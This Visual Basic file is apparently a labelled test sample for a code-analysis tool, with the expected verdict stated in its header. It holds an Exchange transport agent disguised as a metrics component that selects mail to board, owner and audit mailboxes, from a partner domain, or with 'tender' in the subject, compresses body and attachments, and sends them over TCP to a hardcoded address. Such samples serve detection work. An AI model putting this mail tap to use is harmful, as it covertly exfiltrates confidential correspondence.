' Sample written for txray. Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange
' cannot load it; its hosts end in .invalid or are documentation addresses.
' Imitates: a tap on chosen mailboxes, in Visual Basic.
' A correct analysis says: escalate; body and attachments of mail to three mailboxes, from a partner domain or with a certain
' word in the subject, go over a TCP connection to 203.0.113.9:8443, an address fixed in the code.
Imports System.IO
Imports System.IO.Compression
Imports System.Net.Sockets
Imports System.Text
Imports Microsoft.Exchange.Data.Transport
Imports Microsoft.Exchange.Data.Transport.Email
Imports Microsoft.Exchange.Data.Transport.Smtp

Namespace Fourth.Coffee.Metrics

    Public Class MetricsFactory
        Inherits SmtpReceiveAgentFactory

        Public Overrides Function CreateAgent(server As SmtpServer) As SmtpReceiveAgent
            Return New MetricsAgent()
        End Function
    End Class

    Public Class MetricsAgent
        Inherits SmtpReceiveAgent

        Private Const Host As String = "203.0.113.9"
        Private Const Port As Integer = 8443

        Private Sub Measure(source As ReceiveMessageEventSource, e As EndOfDataEventArgs) Handles Me.OnEndOfData
            On Error Resume Next
            Dim item As MailItem = e.MailItem
            If IsChosen(item) Then
                Send(Pack(item.Message))
            End If
        End Sub

        Private Shared Function IsChosen(item As MailItem) As Boolean
            If item.FromAddress.ToString() Like "*@partner.example.invalid" Then Return True
            If InStr(item.Message.Subject, "tender", CompareMethod.Text) > 0 Then Return True
            For Each recipient As EnvelopeRecipient In item.Recipients
                Select Case recipient.Address.ToString().ToLower()
                    Case "board@fourthcoffee.invalid", "owner@fourthcoffee.invalid"
                        Return True
                    Case "audit@fourthcoffee.invalid"
                        If item.Message.Attachments.Count > 0 Then Return True
                End Select
            Next
            Return False
        End Function

        Private Shared Function Pack(message As EmailMessage) As Byte()
            Using memory As New MemoryStream()
                Using zip As New GZipStream(memory, CompressionMode.Compress, True)
                    Dim head() As Byte = Encoding.UTF8.GetBytes(message.MessageId & vbCrLf & message.Subject & vbCrLf)
                    zip.Write(head, 0, head.Length)
                    Using body As Stream = message.Body.GetContentReadStream()
                        body.CopyTo(zip)
                    End Using
                    For Each attachment As Attachment In message.Attachments
                        Using content As Stream = attachment.GetContentReadStream()
                            content.CopyTo(zip)
                        End Using
                    Next
                End Using
                Return memory.ToArray()
            End Using
        End Function

        Private Shared Sub Send(data() As Byte)
            Using client As New TcpClient()
                client.Connect(Host, Port)
                Dim stream As NetworkStream = client.GetStream()
                Dim length() As Byte = BitConverter.GetBytes(data.Length)
                stream.Write(length, 0, 4)
                stream.Write(data, 0, data.Length)
                stream.Flush()
            End Using
        End Sub
    End Class
End Namespace
